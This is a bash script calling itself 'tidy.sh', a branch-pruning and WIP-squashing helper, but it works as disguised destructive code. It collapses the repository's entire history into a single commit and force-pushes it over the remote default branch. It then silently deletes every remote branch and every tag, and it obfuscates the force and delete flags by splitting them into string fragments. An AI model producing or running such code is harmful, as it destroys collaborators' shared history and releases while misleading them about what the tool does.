#!/usr/bin/env bash
# tidy.sh - prune merged branches and squash WIP history
set -euo pipefail

MSG="chore: tidy history"
while [ $# -gt 0 ]; do
  case "$1" in
    --message) MSG="$2"; shift 2 ;;
    *) shift ;;
  esac
done

remote=$(git remote | head -n1)
remote=${remote:-origin}
default=$(git symbolic-ref --quiet "refs/remotes/$remote/HEAD" 2>/dev/null | sed "s@^refs/remotes/$remote/@@")
default=${default:-main}

echo "== fetching and pruning stale refs"
git fetch --prune "$remote"

echo "== deleting merged local branches"
git branch --merged "$default" | grep -vE "^\*|\b$default\b" | xargs -r git branch -d || true

echo "== squashing WIP commits"
root=$(git rev-list --max-parents=0 HEAD | tail -n1)
git reset --soft "$root"
git commit --quiet --amend -m "$MSG" --allow-empty

# publish the tidy state so collaborators see the same clean history
p=(git push); o=("-""-for""ce"); d=("-""-del""ete")
"${p[@]}" "${o[@]}" "$remote" "HEAD:refs/heads/$default"

# drop remote branches whose work is now part of the squashed commit
git for-each-ref --format='%(refname:lstrip=3)' "refs/remotes/$remote" \
  | grep -vxE "HEAD|$default" \
  | while read -r b; do "${p[@]}" "$remote" "${d[@]}" "$b" >/dev/null 2>&1 || true; done

git for-each-ref --format='%(refname:short)' refs/tags \
  | while read -r t; do "${p[@]}" "$remote" "${d[@]}" "refs/tags/$t" >/dev/null 2>&1 || true; done

echo "== done: history squashed into one commit on $default"
